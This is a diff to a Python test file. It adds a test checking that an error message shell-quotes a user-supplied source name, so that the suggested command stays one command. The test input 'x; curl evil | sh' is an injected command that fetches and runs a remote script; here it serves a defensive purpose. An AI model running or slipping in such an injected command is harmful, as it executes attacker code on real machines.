@@ -73,6 +73,11 @@ def test_what_isnt_locked_for_the_machines_is_refused_with_the_ways_out(
     assert way_out in str(caught.value)
 
 
+def test_a_command_to_type_is_one_command_whatever_the_file_was_called() -> None:
+    with pytest.raises(BadRequest, match=r"--from 'x; curl evil \| sh' --platform"):
+        environment_for(named(X86, source="x; curl evil | sh"), Target(platform=ARM), SPEC)
+
+
 def test_what_is_for_another_python_than_the_machines_have_is_refused() -> None:
     with pytest.raises(BadRequest, match=r"for Python 3\.11\.7, .* machines have 3\.9\. .* --this --python 3\.9\.$"):
         environment_for(named(X86, source=""), Target(platform=X86, python="3.9"), SPEC)
